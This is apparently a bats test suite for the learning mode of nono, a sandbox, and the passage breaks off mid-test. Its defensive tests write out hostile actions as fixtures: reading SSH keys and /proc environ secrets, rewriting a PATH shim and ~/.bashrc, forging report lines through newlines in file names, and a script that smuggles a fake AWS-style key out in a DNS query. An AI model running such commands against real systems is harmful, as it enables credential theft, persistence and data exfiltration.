#!/usr/bin/env bats
# shellcheck disable=SC2016,SC2154  # $vars for the inner sh; bats sets $stderr
# nono learn (issue 17): the command runs in the profile's sandbox with
# every path call recorded by the supervisor (no strace); the report says
# what the profile lacks, in its keys, never a protected path; the JSON
# fragment is a profile; strace is the ground truth for what was opened.

load helpers

setup_file() {
	probe_host
}

setup() {
	nono_setup
	require_landlock
	X="$TEST_DIR/ext"
	mkdir -p "$X/share" "$X/lib" proj "$HOME/.ssh"
	echo one >"$X/one.txt"
	echo a >"$X/share/a"
	echo b >"$X/share/b"
	echo key >"$HOME/.ssh/id_rsa"
	cd proj || return 1
}

teardown() {
	nono_teardown
}

@test "learn: a file read outside the grants is offered as a file; several entries of a directory as the directory; with the grants, nothing" {
	run --separate-stderr nono learn -- sh -c "cat '$X/one.txt'; cat '$X/share/a' '$X/share/b'"
	assert_contains "$output" "--read-file" stdout
	assert_contains "$output" "$X/one.txt" stdout
	assert_contains "$output" "--read        $X/share  (2 accesses)" stdout
	# Not the parent of the lone file.
	[[ "$output" != *"--read        $X  "* ]]
	# Control: a profile with those grants lacks nothing.
	mkdir -p "$HOME/.config/nono/profiles"
	printf '{"extends":"default","filesystem":{"read":["%s"],"read_file":["%s"]}}\n' \
		"$X/share" "$X/one.txt" >"$HOME/.config/nono/profiles/learned.json"
	run --separate-stderr nono learn --profile learned -- sh -c "cat '$X/one.txt'; cat '$X/share/a' '$X/share/b'"
	assert_status 0
	assert_contains "$output" "The profile allows everything the command needed." stdout
	assert_contains "$output" "one" stdout
}

@test "learn: a protected path is refused and never offered, nor its directory" {
	run --separate-stderr nono learn -- sh -c "cat '$HOME/.ssh/id_rsa'; cat '$HOME/.ssh/known_hosts'; cat '$X/one.txt'"
	assert_contains "$output" "Refused, never offered" stdout
	assert_contains "$output" "~/.ssh/id_rsa: protected (" stdout
	assert_contains "$output" "--bypass-protection" stdout
	! printf '%s\n' "$output" | grep -E -- '^  --(read|allow|write)[a-z-]* +~/\.ssh' || false
	# Control: the plain file beside it is offered.
	assert_contains "$output" "$X/one.txt" stdout
}

@test "learn: --json prints a fragment that nono profile validate takes as it is" {
	mkdir -p "$TEST_DIR/out"
	run --separate-stderr nono learn --json -- sh -c "cat '$X/one.txt'; cat '$X/share/a' '$X/share/b'; touch '$TEST_DIR/out/made.txt'"
	printf '%s\n' "$output" >"$TEST_DIR/frag.json"
	"$PY" -c 'import json,sys; d=json.load(open(sys.argv[1])); assert "filesystem" in d, d' "$TEST_DIR/frag.json"
	assert_contains "$output" '"read_file":["' stdout
	assert_contains "$output" '"read":["' stdout
	assert_contains "$output" "$TEST_DIR/out" stdout
	run --separate-stderr nono profile validate "$TEST_DIR/frag.json"
	assert_status 0
	# Control: a fragment with a key profiles do not have is refused.
	printf '{"filesystem":{"readx":["/x"]}}\n' >"$TEST_DIR/bad.json"
	run --separate-stderr nono profile validate "$TEST_DIR/bad.json"
	[ "$status" -ne 0 ]
}

@test "learn: --all lists what the sandbox already allowed" {
	run --separate-stderr nono learn --all -- sh -c "cat /etc/hostname '$X/one.txt' >/dev/null"
	assert_contains "$output" "Already allowed (" stdout
	assert_contains "$output" "/etc/hostname" stdout
	# Control: without --all it is not listed.
	run --separate-stderr nono learn -- sh -c "cat /etc/hostname '$X/one.txt' >/dev/null"
	[[ "$output" != *"Already allowed"* ]]
	[[ "$output" != *"/etc/hostname"* ]]
}

@test "learn: calls that only look (stat, access, readlink) are heard with --all; what needs a grant is heard either way" {
	require_cmd python3
	mkdir -p "$X/many"
	for i in $(seq 40); do echo "$i" >"$X/many/f$i"; done
	local prog='import os
for i in range(1, 41):
    os.stat("'"$X"'/many/f%d" % i); os.access("'"$X"'/many/f%d" % i, os.R_OK)
open("'"$X"'/share/a").read()'
	count() { printf '%s\n' "$1" | sed -n 's/^\([0-9]*\) access.* needed no grant.*/\1/p'; }
	run --separate-stderr nono learn --all -- python3 -c "$prog"
	assert_status 0
	assert_contains "$output" "$X/share/a" stdout
	assert_contains "$output" "needed no grant (stat" stdout
	local all
	all=$(count "$output")
	# without --all: the stats are not heard, the read that needs a grant is
	run --separate-stderr nono learn -- python3 -c "$prog"
	assert_status 0
	assert_contains "$output" "$X/share/a" stdout
	refute_contains "$output" "needed no grant (stat" stdout
	local def
	def=$(count "$output")
	[ "$all" -ge $((${def:-0} + 40)) ] || { echo "all=$all default=$def" >&2; false; }
}

@test "learn: --trace is refused on Linux, unknown options and a missing command are errors, --timeout stops the command" {
	run --separate-stderr nono learn --trace -- true
	assert_status 1
	assert_contains "$stderr" "--trace is the macOS tracer" stderr
	run --separate-stderr nono learn --bogus -- true
	assert_status 1
	assert_contains "$stderr" "unknown option" stderr
	run --separate-stderr nono learn
	assert_status 1
	assert_contains "$stderr" "no command given" stderr
	run --separate-stderr nono learn --timeout 0 -- true
	assert_status 1
	# --timeout: a command that would sleep 60 s is stopped, and the
	# report still comes (what it touched before).
	SECONDS=0
	run --separate-stderr nono learn --timeout 1 -- sh -c "cat '$X/one.txt'; sleep 60"
	[ "$SECONDS" -lt 30 ]
	assert_contains "$output" "$X/one.txt" stdout
	# A command that ignores SIGTERM is killed 5 s later; the report
	# still comes.
	SECONDS=0
	run --separate-stderr nono learn --timeout 1 -- sh -c "trap '' TERM; cat '$X/one.txt'; sleep 60"
	[ "$SECONDS" -lt 30 ]
	assert_contains "$output" "$X/one.txt" stdout
	# Control: without it the same command's start is reported alike.
	run --separate-stderr nono learn -- sh -c "cat '$X/one.txt'"
	assert_contains "$output" "$X/one.txt" stdout
}

@test "learn: reads the profile refuses are served for the learning run, so the command goes on past them" {
	mkdir -p "$X/deep"
	echo deep >"$X/deep/d"
	# Each step only if the one before worked: without serving, the
	# command stops at its first refusal and shows nothing after it.
	cmd="cat '$X/one.txt' && ls '$X/share' && cat '$X/deep/d' && echo REACHED-END"
	run --separate-stderr nono learn -- sh -c "$cmd"
	assert_contains "$output" "REACHED-END" stdout
	assert_contains "$output" "deep" stdout
	# three entries of $X used: $X is what the profile lacks
	assert_contains "$output" "--read        $X  (3 accesses)" stdout
	assert_contains "$stderr" "served for this run" stderr
	# Control: nono run refuses the first read, and the rest never runs.
	run --separate-stderr nono run -- sh -c "$cmd"
	refute_contains "$output" "REACHED-END" stdout
	assert_contains "$stderr" "Permission denied" stderr
}

@test "learn: never served: a protected file (also through a symlink), another process's /proc files, sysfs" {
	echo PRIVATE-KEY-BYTES >"$HOME/.ssh/id_rsa"
	ln -s "$HOME/.ssh/id_rsa" "$X/keylink"
	env LEARN_SECRET=learn-secret-4711 sleep 60 &
	spid=$!
	wait_environ "$spid"
	run --separate-stderr nono learn -- sh -c "cat '$X/keylink'; cat '$HOME/.ssh/id_rsa'; cat /proc/$spid/environ; cat /sys/devices/system/cpu/online; echo DONE"
	kill "$spid"
	refute_contains "$output" "PRIVATE-KEY-BYTES" stdout
	refute_contains "$output" "learn-secret-4711" stdout
	# sysfs (no grant; its files act for the opener): refused, not served
	assert_contains "$stderr" "/sys/devices/system/cpu/online: Permission denied" stderr
	assert_contains "$output" "DONE" stdout
	assert_contains "$output" "~/.ssh/id_rsa: protected (" stdout
	# Control: the same reads outside nono work (the file and the
	# process's environment are there to be read).
	grep -q PRIVATE-KEY-BYTES "$X/keylink"
	cat /sys/devices/system/cpu/online
	env LEARN_SECRET=learn-secret-4711 sleep 60 &
	spid=$!
	wait_environ "$spid"
	tr '\0' '\n' <"/proc/$spid/environ" | grep -q learn-secret-4711
	kill "$spid"
}

# Until the process started with env ... has its environment (env execs).
wait_environ() {
	for _ in $(seq 100); do
		grep -q learn-secret "/proc/$1/environ" 2>/dev/null && return 0
		sleep 0.05
	done
	return 1
}

# Review of the served reads (each was served by the build before): a
# link in ~/.ssh to a key kept elsewhere (dotfile managers), a hard link
# to it, a profile's filesystem.deny path that no grant covers, nono's own
# configuration where XDG_CONFIG_HOME puts it, and the file a credential
# key comes from.
@test "learn: never served, whatever name leads there: a key behind a link in ~/.ssh, a hard link, a denied path, nono's config, a credential's file" {
	mkdir -p "$TEST_DIR/keys" "$TEST_DIR/srv/secret" "$TEST_DIR/xdg/nono/trust" "$TEST_DIR/hl"
	echo LINKED-KEY-BYTES >"$TEST_DIR/keys/id_ed25519"
	ln -s "$TEST_DIR/keys/id_ed25519" "$HOME/.ssh/id_ed25519"
	ln "$TEST_DIR/keys/id_ed25519" "$TEST_DIR/hl/copy"
	echo DENIED-BYTES >"$TEST_DIR/srv/secret/x"
	echo TRUST-KEY-BYTES >"$TEST_DIR/xdg/nono/trust/signing.key"
	echo sk-REAL-API-KEY-123 >"$TEST_DIR/apikey"
	mkdir -p "$TEST_DIR/xdg/nono/profiles"
	cat >"$TEST_DIR/xdg/nono/profiles/rev.json" <<JSON
{"extends":"default","filesystem":{"deny":["$TEST_DIR/srv/secret"]},
 "network":{"credentials":["testai"],"custom_credentials":{"testai":{
   "upstream":"http://127.0.0.1:9/v1","credential_key":"file://$TEST_DIR/apikey"}}}}
JSON
	run --separate-stderr env XDG_CONFIG_HOME="$TEST_DIR/xdg" "$NONO" learn --profile rev -- sh -c "
		cat '$HOME/.ssh/id_ed25519'; cat '$TEST_DIR/hl/copy'; cat '$TEST_DIR/srv/secret/x'
		cat '$TEST_DIR/xdg/nono/trust/signing.key'; cat '$TEST_DIR/apikey'; echo DONE" </dev/null
	assert_contains "$output" "DONE" stdout
	refute_contains "$output" "LINKED-KEY-BYTES" stdout
	refute_contains "$output" "DENIED-BYTES" stdout
	refute_contains "$output" "TRUST-KEY-BYTES" stdout
	refute_contains "$output" "sk-REAL-API-KEY-123" stdout
	# not offered either
	refute_contains "$output" "--read-file   $TEST_DIR/srv" stdout
	refute_contains "$output" "--read-file   $TEST_DIR/apikey" stdout
	# Control: a plain file beside them is served.
	echo PLAIN-BYTES >"$TEST_DIR/srv/plain"
	run --separate-stderr env XDG_CONFIG_HOME="$TEST_DIR/xdg" "$NONO" learn --profile rev -- cat "$TEST_DIR/srv/plain" </dev/null
	assert_contains "$output" "PLAIN-BYTES" stdout
}

@test "learn: on a terminal, what the profile lacks is offered as PROFILE-local; saved, the next learn lacks nothing" {
	run "$PY" "$BATS_TEST_DIRNAME/lib/ptydrive.py" --timeout 30 --log "$TEST_ROOT/term.log" \
		expect:'share the current directory' 'send:n\r' \
		expect:'Save to profile' sleep:0.2 'send:y\r' wait -- \
		"$NONO" learn --profile default -- sh -c "cat '$X/one.txt'; cat '$X/share/a' '$X/share/b'"
	assert_contains "$(tr -d '\r' <"$TEST_ROOT/term.log")" "default-local" terminal
	f="$HOME/.config/nono/profiles/default-local.json"
	grep -q "$X/one.txt" "$f"
	grep -q "$X/share" "$f"
	# Control: the saved profile lacks nothing.
	run --separate-stderr nono learn --profile default-local -- sh -c "cat '$X/one.txt'; cat '$X/share/a' '$X/share/b'"
	assert_contains "$output" "The profile allows everything the command needed." stdout
}

@test "learn: nothing strace sees opened or executed is missing from the record (sh, cat, ls, relative paths, cd)" {
	command -v strace >/dev/null || skip "no strace"
	mkdir -p "$X/deep/er"
	echo z >"$X/deep/er/z"
	# Each step attempted whatever the one before got (reads are served
	# while learning; this checks the record, whatever the answers).
	cmd="cd '$X'; cat one.txt share/a >/dev/null; ls deep >/dev/null; cd deep/er; cat z ../../share/b >/dev/null; ls . >/dev/null"
	# The ground truth: the same command with every grant, under strace.
	strace -f -qq -y -e trace=%file -o "$TEST_DIR/st.log" sh -c "$cmd"
	run --separate-stderr nono learn --all -- sh -c "$cmd"
	printf '%s\n' "$output" >"$TEST_DIR/report.txt"
	run "$PY" "$BATS_TEST_DIRNAME/lib/learn_vs_strace.py" "$TEST_DIR/st.log" "$TEST_DIR/report.txt" "$HOME" "$X"
	echo "$output"
	assert_status 0
	assert_contains "$output" "0 missing" stdout
}

@test "learn: real workloads (python imports, node requires, git status, cc with includes, make, curl): nothing strace sees opened below their tree or connected to is missing" {
	command -v strace >/dev/null || skip "no strace"
	start_http_server
	mkdir -p "$X/py/pkg" "$X/inc" "$X/src" "$X/node"
	printf 'module.exports = { v: 2 };\n' >"$X/node/lib.js"
	printf '{"k": 1}\n' >"$X/node/data.json"
	printf "const lib = require('./lib'); const fs = require('fs');\nconsole.log(lib.v + fs.readFileSync(__dirname + '/data.json', 'utf8').length);\n" >"$X/node/main.js"
	printf 'import json\nVALUE = 1\n' >"$X/py/pkg/__init__.py"
	printf 'import pkg, email.message\nprint(pkg.VALUE)\n' >"$X/py/main.py"
	printf '#define N 3\n' >"$X/inc/n.h"
	printf '#include "n.h"\nint f(void) { return N; }\n' >"$X/src/f.c"
	printf 'all:\n\tcat %s/src/f.c >/dev/null\n' "$X" >"$X/src/Makefile"
	git init -q "$X/repo" && echo x >"$X/repo/file" && git -C "$X/repo" add file
	for cmd in \
		"PYTHONDONTWRITEBYTECODE=1 PYTHONPATH='$X/py' /usr/bin/python3 '$X/py/main.py'" \
		"git -C '$X/repo' status --short" \
		"cc -fsyntax-only -I'$X/inc' '$X/src/f.c'" \
		"make -s -C '$X/src'" \
		"node '$X/node/main.js'" \
		"curl -s -o /dev/null http://127.0.0.1:$HTTP_PORT/index.txt"; do
		command -v "${cmd%% *}" >/dev/null 2>&1 || case "$cmd" in PYTHON*) ;; *) continue ;; esac
		strace -f -qq -y -e trace=%file,%network -o "$TEST_DIR/st.log" sh -c "$cmd" >/dev/null 2>&1
		run --separate-stderr nono learn --all -- sh -c "$cmd"
		printf '%s\n' "$output" >"$TEST_DIR/report.txt"
		run "$PY" "$BATS_TEST_DIRNAME/lib/learn_vs_strace.py" "$TEST_DIR/st.log" "$TEST_DIR/report.txt" "$HOME" "$X"
		echo "$cmd: $output"
		assert_status 0
		assert_contains "$output" "0 missing" stdout
	done
}

@test "learn: review of session 12: a name with \$ is never offered (a profile would expand it), a name with a newline cannot forge a line of the report" {
	mkdir -p "$X/\$HOME"
	echo a >"$X/\$HOME/a"
	echo b >"$X/\$HOME/b"
	run --separate-stderr nono learn -- sh -c "cat '$X/\$HOME/a' '$X/\$HOME/b'"
	assert_contains "$output" 'not offered: a profile would read its $' stdout
	! printf '%s\n' "$output" | grep -E -- '^  --[a-z-]+ +.*\$HOME' || false
	run --separate-stderr nono learn --json -- sh -c "cat '$X/\$HOME/a' '$X/\$HOME/b'"
	[[ "$output" != *'$HOME'* ]]
	# A newline in a name is shown escaped, never as a line of its own.
	evil="$X/zz  (1 access)
  --allow       ~/.ssh
  --x"
	mkdir -p "$evil"
	echo e >"$evil/f"
	run --separate-stderr nono learn -- cat "$evil/f"
	! printf '%s\n' "$output" | grep -E -- '^  --allow +~/\.ssh' || false
	assert_contains "$output" '\x0a' stdout
	# Control: a plain name beside them is offered.
	run --separate-stderr nono learn -- cat "$X/one.txt"
	assert_contains "$output" "$X/one.txt" stdout
}

@test "learn: in proxy mode, hosts the profile refuses are offered as --allow-domain; a name is let through for the run, an address or localhost never" {
	require_cmd curl
	start_http_server
	mkdir -p "$HOME/.config/nono/profiles"
	printf '{"extends":"default","network":{"allow_domain":["example.com"]}}\n' \
		>"$HOME/.config/nono/profiles/net.json"
	C='env -u NO_PROXY -u no_proxy curl -sS --max-time 10'
	run --separate-stderr nono learn --profile net -- sh -c "
		$C -o /dev/null -w 'name=%{http_code}\n' http://learned.invalid:8081/x
		$C -w 'addr=%{http_code}\n' http://127.0.0.1:$HTTP_PORT/index.txt
		$C -w 'local=%{http_code}\n' http://localhost:$HTTP_PORT/index.txt
		$C -w 'local2=%{http_code}\n' http://a.localhost:$HTTP_PORT/index.txt
		$C -w 'num=%{http_code}\n' http://2130706433:$HTTP_PORT/index.txt
		true"
	assert_status 0
	# The name was let through: its lookup failed (no DNS here), not
	# the policy (403).  (The command's output is on stdout with the
	# report.)
	assert_contains "$output" "name=502"
	# Addresses and localhost: refused, and never reached.
	assert_contains "$output" "addr=403"
	assert_contains "$output" "local=403"
	assert_contains "$output" "local2=403"
	assert_contains "$output" "num=403"
	refute_contains "$output" "NONO-HTTP-OK"
	! grep -q 'GET /index.txt' "$TEST_DIR/http.log" || false
	assert_contains "$output" "--allow-domain learned.invalid:8081  (1 request)" stdout
	# Addresses and localhost are said, never offered (saved, one made
	# the host's own services reachable).
	assert_contains "$output" "127.0.0.1:$HTTP_PORT: an address or localhost" stdout
	assert_contains "$output" "localhost:$HTTP_PORT: an address or localhost" stdout
	refute_contains "$output" "  --allow-domain 127.0.0.1" stdout
	refute_contains "$output" "  --allow-domain localhost" stdout
	# The fragment carries them, and is a profile.
	run --separate-stderr nono learn --profile net --json -- sh -c "
		$C -o /dev/null http://learned.invalid/x; true"
	assert_contains "$output" '"network":{"allow_domain":["learned.invalid"]}' stdout
	printf '%s\n' "$output" >"$TEST_DIR/frag.json"
	run --separate-stderr nono profile validate "$TEST_DIR/frag.json"
	assert_status 0
	# Control: with the literal granted, it is reached and not offered.
	printf '{"extends":"default","network":{"allow_domain":["example.com","127.0.0.1:%s"]}}\n' \
		"$HTTP_PORT" >"$HOME/.config/nono/profiles/net.json"
	run --separate-stderr nono learn --profile net -- sh -c "
		$C http://127.0.0.1:$HTTP_PORT/index.txt"
	assert_status 0
	assert_contains "$output" "NONO-HTTP-OK"
	assert_contains "$output" "The profile allows everything the command needed." stdout
	# Without nono learn the same name is refused by the policy.
	run --separate-stderr nono run -s --allow-cwd --profile net -- sh -c "
		$C -o /dev/null -w 'name=%{http_code}\n' http://learned.invalid:8081/x; true"
	assert_contains "$output$stderr" "name=403"
}

@test "learn: on a terminal, a host the profile lacks is saved as network.allow_domain; the next learn lacks nothing" {
	require_cmd curl
	mkdir -p "$HOME/.config/nono/profiles"
	printf '{"extends":"default","network":{"allow_domain":["example.com"]}}\n' \
		>"$HOME/.config/nono/profiles/net.json"
	C='env -u NO_PROXY -u no_proxy curl -sS --max-time 10 -o /dev/null'
	run "$PY" "$BATS_TEST_DIRNAME/lib/ptydrive.py" --timeout 30 --log "$TEST_ROOT/term.log" \
		expect:'share the current directory' 'send:n\r' \
		expect:'Save to profile' sleep:0.2 'send:y\r' wait -- \
		"$NONO" learn --profile net -- sh -c "$C http://learned.invalid/x; true"
	assert_contains "$(tr -d '\r' <"$TEST_ROOT/term.log")" "allow domain" terminal
	grep -v '^//' "$HOME/.config/nono/profiles/net.json" |
		"$PY" -c 'import json,sys; d=json.load(sys.stdin); assert d["network"]["allow_domain"] == ["example.com", "learned.invalid"], d'
	# curl -o /dev/null opens it with O_CREAT: no --write /dev offered.
	! grep -q '"/dev"' "$HOME/.config/nono/profiles/net.json" || false
	run --separate-stderr nono learn --profile net -- sh -c "$C http://learned.invalid/x; true"
	refute_contains "$output" "--allow-domain learned.invalid" stdout
	assert_contains "$output" "The profile allows everything the command needed." stdout
}

@test "learn: with the network blocked, a loopback port the command connects to is offered as --open-port; other destinations are said, never offered" {
	start_http_server
	mkdir -p "$HOME/.config/nono/profiles"
	printf '{"extends":"default","network":{"block":true}}\n' \
		>"$HOME/.config/nono/profiles/blk.json"
	OTHER='
import socket
s = socket.socket()
try:
    s.connect(("0.0.0.0", 9))
except OSError as e:
    print("other", e.errno)'
	run --separate-stderr nono learn --profile blk -- sh -c "
		'$PY' -c '$TCP_GET' $HTTP_PORT; '$PY' -c '$TCP_GET' $HTTP_PORT; '$PY' -c '$OTHER'"
	assert_status 0
	assert_contains "$output" "ERR" stdout
	refute_contains "$output" "NONO-HTTP-OK" stdout
	assert_contains "$output" "--open-port   $HTTP_PORT  (2 times)" stdout
	assert_contains "$output" "direct connect to 0.0.0.0 port 9: the profile blocks the network" stdout
	refute_contains "$output" "--open-port   9 " stdout
	run --separate-stderr nono learn --profile blk --json -- "$PY" -c "$TCP_GET" "$HTTP_PORT"
	assert_contains "$output" "\"network\":{\"open_port\":[$HTTP_PORT]}" stdout
	printf '%s\n' "$output" >"$TEST_DIR/frag.json"
	run --separate-stderr nono profile validate "$TEST_DIR/frag.json"
	assert_status 0
	# Control: the port granted, the command reaches it and lacks nothing.
	printf '{"extends":"default","network":{"block":true,"open_port":[%s]}}\n' \
		"$HTTP_PORT" >"$HOME/.config/nono/profiles/blk.json"
	run --separate-stderr nono learn --profile blk -- "$PY" -c "$TCP_GET" "$HTTP_PORT"
	assert_status 0
	assert_contains "$output" "NONO-HTTP-OK" stdout
	refute_contains "$output" "--open-port" stdout
}

@test "learn: review of session 14: a name resolving to a loopback address is never let through, even where the profile allows that address on another port" {
	require_userns
	require_cmd curl
	start_http_server
	mkdir -p "$HOME/.config/nono/profiles"
	printf '{"extends":"default","network":{"allow_domain":["example.com","127.0.0.1:1"]}}\n' \
		>"$HOME/.config/nono/profiles/lit.json"
	# Names that resolve to the host's loopback (an attacker's DNS would
	# do the same), in a mount namespace of the test's own.
	printf '127.0.0.1 lo.test\n127.0.0.2 lo2.test\n' >"$TEST_DIR/hosts"
	C='env -u NO_PROXY -u no_proxy curl -sS --max-time 10'
	run --separate-stderr unshare -Urm sh -c "mount --bind '$TEST_DIR/hosts' /etc/hosts && exec '$NONO' learn --profile lit -- sh -c \"
		$C -w 'lo=%{http_code}\n' http://lo.test:$HTTP_PORT/index.txt
		$C -w 'lo2=%{http_code}\n' -p http://lo2.test:$HTTP_PORT/index.txt
		true\"" </dev/null
	assert_contains "$output" "lo=403" stdout
	assert_contains "$output" "lo2=000" stdout
	refute_contains "$output" "NONO-HTTP-OK" stdout
	! grep -q 'GET /index.txt' "$TEST_DIR/http.log" || false
	assert_contains "$output" "lo.test:$HTTP_PORT: resolves to a local, private or reserved address" stdout
	refute_contains "$output" "  --allow-domain lo.test" stdout
	# nono run: a literal allowed for one port no longer opens the others
	# to a name resolving there (the name itself allowed).
	printf '{"extends":"default","network":{"allow_domain":["lo.test:%s","127.0.0.1:1"]}}\n' \
		"$HTTP_PORT" >"$HOME/.config/nono/profiles/lit.json"
	run --separate-stderr unshare -Urm sh -c "mount --bind '$TEST_DIR/hosts' /etc/hosts && exec '$NONO' run -s --allow-cwd --profile lit -- sh -c \"
		$C -w 'run=%{http_code}\n' http://lo.test:$HTTP_PORT/index.txt; true\"" </dev/null
	assert_contains "$output$stderr" "run=403"
	refute_contains "$output$stderr" "NONO-HTTP-OK"
	# Control: the literal allowed for that port, the name reaches it.
	printf '{"extends":"default","network":{"allow_domain":["lo.test:%s","127.0.0.1:%s"]}}\n' \
		"$HTTP_PORT" "$HTTP_PORT" >"$HOME/.config/nono/profiles/lit.json"
	run --separate-stderr unshare -Urm sh -c "mount --bind '$TEST_DIR/hosts' /etc/hosts && exec '$NONO' run -s --allow-cwd --profile lit -- sh -c \"
		$C http://lo.test:$HTTP_PORT/index.txt\"" </dev/null
	assert_contains "$output$stderr" "NONO-HTTP-OK"
}

# Review 2 of session 15 (HIGH): writes performed for real let a learning
# run rewrite PATH shims and tools' start-up files no list names, and
# remove files.  A write now goes to a throwaway copy; nothing outside the
# grants is changed, made or removed.
@test "learn: writes beyond the grants go to throwaway copies so the command goes on; nothing outside the grants is changed, made or removed" {
	echo OLD >"$X/old.txt"
	echo RC >"$HOME/.bashrc"
	mkdir -p "$HOME/.pyenv/shims"
	printf '#!/bin/sh\necho REAL-SHIM\n' >"$HOME/.pyenv/shims/python"
	chmod +x "$HOME/.pyenv/shims/python"
	run --separate-stderr nono learn -- sh -c "
		echo new >'$X/new.txt' && echo create:ok
		echo more >>'$X/one.txt' && echo append:ok
		printf '#!/bin/sh\necho PWNED\n' >'$HOME/.pyenv/shims/python' && echo shim:ok
		echo x >'$HOME/.sqliterc'; echo sqlite=\$?
		mkdir '$X/newdir'; echo mkdir=\$?
		mv '$X/old.txt' '$X/renamed.txt'; echo rename=\$?
		rm '$X/share/a'; echo rm=\$?
		echo evil >>'$HOME/.bashrc'; echo bashrc=\$?"
	# The command went on past the writes (its copies; a later open
	# sees the file as it was).
	assert_contains "$output" "create:ok" stdout
	assert_contains "$output" "append:ok" stdout
	# A PATH shim is never even copied (it would run code outside
	# later): refused, and reported as never offered, not suggested.
	refute_contains "$output" "shim:ok" stdout
	assert_contains "$output" "~/.pyenv/shims/python: kept read-only" stdout
	refute_contains "$output" "--write-file  ~/.pyenv" stdout
	# Nothing outside the grants changed.
	[ ! -e "$X/new.txt" ]
	[ ! -e "$HOME/.sqliterc" ]
	[ ! -e "$X/newdir" ]
	assert_file_content "$X/one.txt" one
	assert_file_content "$X/old.txt" OLD
	[ ! -e "$X/renamed.txt" ]
	[ -f "$X/share/a" ]
	assert_file_content "$HOME/.bashrc" RC
	[ "$("$HOME/.pyenv/shims/python")" = REAL-SHIM ]
	for w in mkdir rename rm bashrc; do
		refute_contains "$output" "$w=0" stdout
	done
	# Each is reported for the profile (protected ones as refused).
	assert_contains "$output" "$X" stdout
	assert_contains "$output" "~/.bashrc: protected (" stdout
	assert_contains "$stderr" "went to throwaway copies" stderr
	# Control: nono run with the same profile refuses the writes.
	run nono run -s --allow-cwd -- sh -c "echo new2 >'$X/new2.txt'; echo rc=\$?"
	refute_contains "$output" "rc=0"
	assert_contains "$output" "rc="
	[ ! -e "$X/new2.txt" ]
}

# In a network namespace of the test's own, with its DNS server on
# 127.0.0.1:53 answering *.learn.test: curl looks the name up itself (glibc
# sends the query) and connects; --all lists the connection with the name.
@test "learn: --all lists the connections the profile allowed, with the host names the command looked up itself" {
	require_userns
	require_cmd curl
	require_cmd ip
	printf 'nameserver 127.0.0.1\n' >"$TEST_DIR/resolv.conf"
	printf '127.0.0.1 localhost\n' >"$TEST_DIR/hosts"
	mkdir -p "$TEST_DIR/www" && echo NONO-HTTP-OK >"$TEST_DIR/www/index.txt"
	run --separate-stderr unshare -Urmn sh -c "
		ip link set lo up || exit 9
		mount --bind '$TEST_DIR/resolv.conf' /etc/resolv.conf || exit 9
		mount --bind '$TEST_DIR/hosts' /etc/hosts || exit 9
		'$PY' '$BATS_TEST_DIRNAME/lib/dns_server.py' '$TEST_DIR/dns.ready' >/dev/null 2>&1 </dev/null &
		d=\$!
		'$PY' -m http.server --bind 127.0.0.1 --directory '$TEST_DIR/www' 18080 >/dev/null 2>&1 </dev/null &
		h=\$!
		for i in \$(seq 100); do [ -s '$TEST_DIR/dns.ready' ] && '$PY' -c 'import socket; socket.create_connection((\"127.0.0.1\", 18080), 1)' 2>/dev/null && break; sleep 0.05; done
		'$NONO' learn --all -- curl -sS --max-time 10 -w 'code=%{http_code}\n' -o /dev/null http://svc.learn.test:18080/index.txt
		r=\$?; kill \$d \$h; exit \$r" </dev/null
	assert_status 0
	assert_contains "$output" "code=200" stdout
	assert_contains "$output" "connect       127.0.0.1 port 18080 (svc.learn.test)" stdout
	# Control: without --all the allowed connection is not listed.
	run --separate-stderr unshare -Urmn sh -c "
		ip link set lo up || exit 9
		'$PY' -m http.server --bind 127.0.0.1 --directory '$TEST_DIR/www' 18080 >/dev/null 2>&1 </dev/null &
		h=\$!
		for i in \$(seq 100); do '$PY' -c 'import socket; socket.create_connection((\"127.0.0.1\", 18080), 1)' 2>/dev/null && break; sleep 0.05; done
		'$NONO' learn -- curl -sS --max-time 10 -o /dev/null http://127.0.0.1:18080/index.txt
		r=\$?; kill \$h; exit \$r" </dev/null
	assert_status 0
	refute_contains "$output" "port 18080" stdout
}

# An npm agent's --help (Codex: node running its package's JS, which starts
# its native binary; installed by scripts/agents.sh), its node_modules as
# the tree, readable: strace's ground truth against learn's record (--all
# lists what the grant already allows).
@test "learn: an npm agent's --help: nothing strace sees opened or executed below its node_modules is missing" {
	command -v strace >/dev/null || skip "no strace"
	AGENTS=${NONO_TEST_AGENTS:-/var/lib/nono-agents}
	[ -f "$AGENTS/.installed-v1" ] ||
		skip_or_fail "agents not installed in $AGENTS (run scripts/agents.sh)"
	mods="$AGENTS/main/node_modules"
	cmd="'$mods/.bin/codex' --help"
	strace -f -qq -y -e trace=%file,%network -o "$TEST_DIR/st.log" sh -c "$cmd" >/dev/null 2>&1
	mkdir -p "$HOME/.config/nono/profiles"
	printf '{"extends":"default","filesystem":{"read":["%s"]}}\n' "$mods" \
		>"$HOME/.config/nono/profiles/agent.json"
	run --separate-stderr nono learn --profile agent --all --timeout 60 -- sh -c "$cmd"
	printf '%s\n' "$output" >"$TEST_DIR/report.txt"
	run "$PY" "$BATS_TEST_DIRNAME/lib/learn_vs_strace.py" "$TEST_DIR/st.log" "$TEST_DIR/report.txt" "$HOME" "$mods"
	echo "$output"
	assert_status 0
	assert_contains "$output" "0 missing" stdout
}

# Review 2 of session 15 (MED): with the network blocked, a name the
# command put in a "DNS query" (sent nowhere: its UDP is refused, this one
# went on a TCP socket) was resolved by nono itself after the run, outside
# the sandbox: a channel out.  Names are resolved only where the command
# could have asked the resolver itself.
@test "learn: with the network blocked, names the command put in DNS queries are never looked up by nono" {
	require_userns
	require_cmd ip
	mkdir -p "$HOME/.config/nono/profiles"
	printf '{"extends":"default","network":{"block":true,"open_port":[18080]}}\n' \
		>"$HOME/.config/nono/profiles/blocked.json"
	printf 'nameserver 127.0.0.1\n' >"$TEST_DIR/resolv.conf"
	cat >"$TEST_DIR/exfil.py" <<'PY'
import socket, struct
q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
for label in ("secret-key-akia1234", "exfil", "test"):
    q += bytes([len(label)]) + label.encode()
q += b"\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
try:
    s.sendto(q, socket.MSG_NOSIGNAL, ("192.0.2.1", 53))
except OSError as e:
    print("sendto:", e.errno)
c = socket.create_connection(("127.0.0.1", 18080), 3)
c.sendall(b"GET /index.txt HTTP/1.0\r\n\r\n"); print(c.recv(64)[:12])
PY
	mkdir -p "$TEST_DIR/www" && echo NONO-HTTP-OK >"$TEST_DIR/www/index.txt"
	run --separate-stderr unshare -Urmn sh -c "
		ip link set lo up || exit 9
